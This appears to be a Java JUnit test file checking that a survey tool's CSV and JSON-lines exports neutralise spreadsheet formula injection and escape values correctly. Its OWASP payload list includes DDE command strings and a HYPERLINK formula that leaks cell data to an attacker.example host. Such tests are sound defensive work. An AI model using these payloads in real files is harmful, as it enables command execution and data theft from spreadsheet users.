package dev.feedbackloop.core.export;

import static dev.feedbackloop.core.Fixtures.T0;
import static org.assertj.core.api.Assertions.assertThat;

import dev.feedbackloop.core.FeedbackLoop;
import dev.feedbackloop.core.Fixtures;
import dev.feedbackloop.core.MutableClock;
import dev.feedbackloop.core.followup.Contact;
import dev.feedbackloop.core.followup.FollowUpPolicy;
import dev.feedbackloop.scoring.export.ExportFormat;
import dev.feedbackloop.scoring.export.ExportReader;
import dev.feedbackloop.scoring.export.ExportRow;
import dev.feedbackloop.scoring.internal.FormulaGuard;
import dev.feedbackloop.survey.Response;
import dev.feedbackloop.testing.Seed;
import dev.feedbackloop.testing.Seeds;
import java.io.ByteArrayInputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

@ExtendWith(Seeds.class)
final class ExportTest {

    static final List<String> OWASP = List.of("=1+2\";=1+2", "=1+2'\" ;,=1+2", "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click\")",
            "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
            "\u0000=1+2");

    private final MutableClock clock = MutableClock.at(T0);

    /** One read-back row: every column's text, and the NPS column as an integer. */
    record Row(Map<String, String> texts, int nps) {
    }

    static List<Row> readBack(String exported, ExportFormat format, List<String> columns) {
        var rows = new ArrayList<Row>();
        try (ExportReader reader = ExportReader.of(new ByteArrayInputStream(exported.getBytes(StandardCharsets.UTF_8)),
                "export", format, List.of())) {
            reader.read(columns, row -> {
                var texts = new LinkedHashMap<String, String>();
                for (int i = 0; i < columns.size(); i++) {
                    texts.put(columns.get(i), row.text(i));
                }
                rows.add(new Row(texts,
                        columns.contains("nps") ? row.integer(columns.indexOf("nps")) : ExportRow.BLANK));
            });
        }
        return rows;
    }

    private static Response hostile(String id, String text) {
        return Fixtures.response(id, text, 3, text, T0, Map.of("plan", text));
    }

    @Nested
    class Responses {

        @ParameterizedTest
        @EnumSource(ExportFormat.class)
        void owaspPayloads_areNeutralisedInEveryTextCellAndRatingsStayNumbers(ExportFormat format) {
            var responses = new ArrayList<Response>();
            for (int i = 0; i < OWASP.size(); i++) {
                responses.add(hostile("r" + i, OWASP.get(i)));
            }
            ResponseExport export = ResponseExport.of(Fixtures.survey(), format).withAttributes(List.of("plan"));
            var out = new StringWriter();

            assertThat(export.write(responses, out)).isEqualTo(OWASP.size());

            List<Row> rows = readBack(out.toString(), format, export.columns());
            assertThat(rows).hasSize(OWASP.size());
            for (int i = 0; i < OWASP.size(); i++) {
                Row row = rows.get(i);
                assertThat(row.texts().get("customerId")).isEqualTo("'" + OWASP.get(i));
                assertThat(row.texts().get("attribute.plan")).isEqualTo("'" + OWASP.get(i));
                assertThat(row.texts().get("why")).isEqualTo("'" + OWASP.get(i));
                assertThat(row.nps()).isEqualTo(3);
                assertThat(row.texts().get("surveyVersion")).isEqualTo("1");
            }
        }

        @Test
        void csv_isRfc4180WithQuotedTextAndBareNumbers() {
            var out = new StringWriter();
            ResponseExport.of(Fixtures.survey(), ExportFormat.CSV)
                    .write(List.of(Fixtures.response("r1", "c1", 9, "said \"hi\", then\nleft", T0)), out);

            assertThat(out.toString()).isEqualTo("\"responseId\",\"surveyVersion\",\"submittedAt\",\"channel\","
                    + "\"customerId\",\"nps\",\"why\",\"csat\"\r\n"
                    + "\"r1\",1,\"2024-03-04T09:00:00Z\",\"web\",\"c1\",9,\"said \"\"hi\"\", then\nleft\",\r\n");
        }

        @Test
        void jsonLines_writesNumbersNullsAndEscapes() {
            var out = new StringWriter();
            ResponseExport.of(Fixtures.survey(), ExportFormat.JSON_LINES)
                    .write(List.of(Fixtures.response("r1", null, 9, "a\"b\\c\u0001\u2028", T0)), out);

            assertThat(out.toString()).isEqualTo("{\"responseId\":\"r1\",\"surveyVersion\":1,"
                    + "\"submittedAt\":\"2024-03-04T09:00:00Z\",\"channel\":\"web\",\"customerId\":null,\"nps\":9,"
                    + "\"why\":\"a\\\"b\\\\c\\u0001\\u2028\",\"csat\":null}\n");
        }

        @ParameterizedTest
        @EnumSource(ExportFormat.class)
        void randomCorpus_roundTripsAndNoCellStartsDangerously(ExportFormat format, Seed seed) {
            var random = seed.random();
            String alphabet = "=+-@\t\r\n\u0000\",;'| aZ9\u00e9\u4e2d";
            var responses = new ArrayList<Response>();
            for (int i = 0; i < 2_000; i++) {
                var text = new StringBuilder();
                int length = 1 + random.nextInt(12);
                for (int k = 0; k < length; k++) {
                    text.append(random.nextInt(20) == 0 ? "\uD83D\uDE00"
                            : String.valueOf(alphabet.charAt(random.nextInt(alphabet.length()))));
                }
                String t = text.toString().isBlank() ? "x" + text : text.toString();
                responses.add(Fixtures.response("r" + i, t, random.nextInt(11), t, T0, Map.of("plan", t)));
            }
            ResponseExport export = ResponseExport.of(Fixtures.survey(), format).withAttributes(List.of("plan"));
            var out = new StringWriter();
            export.write(responses, out);

            List<Row> rows = readBack(out.toString(), format, export.columns());

            assertThat(rows).hasSize(responses.size());
            for (int i = 0; i < rows.size(); i++) {
                Response response = responses.get(i);
                String customer = response.respondent().customerId();
                assertThat(rows.get(i).texts().get("customerId")).as("seed %d row %d", seed.value(), i)
                        .isEqualTo(FormulaGuard.neutralise(customer));
                assertThat(rows.get(i).texts().get("why")).isEqualTo(FormulaGuard.neutralise(customer));
                assertThat(rows.get(i).nps()).isEqualTo(((dev.feedbackloop.survey.Answer.Rating)
                        response.answer("nps")).value());
                int row = i;
                rows.get(i).texts().forEach((column, text) ->
                        assertThat(FormulaGuard.isDangerous(text)).as("seed %d row %d %s", seed.value(), row, column)
                                .isFalse());
            }
        }
    }

    @Nested
    class FollowUps {

        @ParameterizedTest
        @EnumSource(ExportFormat.class)
        void notesAndActors_areNeutralised_numbersAreNot(ExportFormat format) {
            FeedbackLoop loop = FeedbackLoop.builder().clock(clock)
                    .followUpPolicy(FollowUpPolicy.npsDetractors("nps", Duration.ofHours(48))).build();
            loop.register(Fixtures.survey());
            String followUpId = loop.submit(Fixtures.response("r1", "=c1", 2, null, T0)).followUpIds().get(0);
            clock.advance(Duration.ofHours(1));
            loop.followUps().contact(followUpId, 1, Contact.of("@phone", "-agent", loop.now(),
                    "=HYPERLINK(\"http://x\")"));
            FollowUpExport export = FollowUpExport.of(format);
            var out = new StringWriter();

            assertThat(export.write(loop, out)).isEqualTo(1);

            List<Row> rows = readBack(out.toString(), format, export.columns());
            Map<String, String> row = rows.get(0).texts();
            assertThat(row.get("customerId")).isEqualTo("'=c1");
            assertThat(row.get("contactNote")).isEqualTo("'=HYPERLINK(\"http://x\")");
            assertThat(row.get("contactedBy")).isEqualTo("'-agent");
            assertThat(row.get("contactChannel")).isEqualTo("'@phone");
            assertThat(row.get("version")).isEqualTo("2");
            assertThat(row.get("escalations")).isEqualTo("0");
            assertThat(row.get("state")).isEqualTo("CONTACTED");
            assertThat(row.get("resolvedAt")).isEmpty();
        }

        @Test
        void responsesOfALoop_areExportedInOrderOfReceipt() {
            FeedbackLoop loop = FeedbackLoop.builder().clock(clock).build();
            loop.register(Fixtures.survey());
            loop.submit(Fixtures.response("r1", "c1", 9, "-5", T0));
            clock.advance(Duration.ofMinutes(1));
            loop.submit(Fixtures.response("r2", null, 0, null, T0));
            ResponseExport export = ResponseExport.of(Fixtures.survey(), ExportFormat.CSV);
            var out = new StringWriter();

            assertThat(export.write(loop, out)).isEqualTo(2);

            List<Row> rows = readBack(out.toString(), ExportFormat.CSV, export.columns());
            assertThat(rows).extracting(r -> r.texts().get("responseId")).containsExactly("r1", "r2");
            assertThat(rows).extracting(r -> r.texts().get("why")).containsExactly("'-5", "");
            assertThat(rows).extracting(Row::nps).containsExactly(9, 0);
        }
    }

}
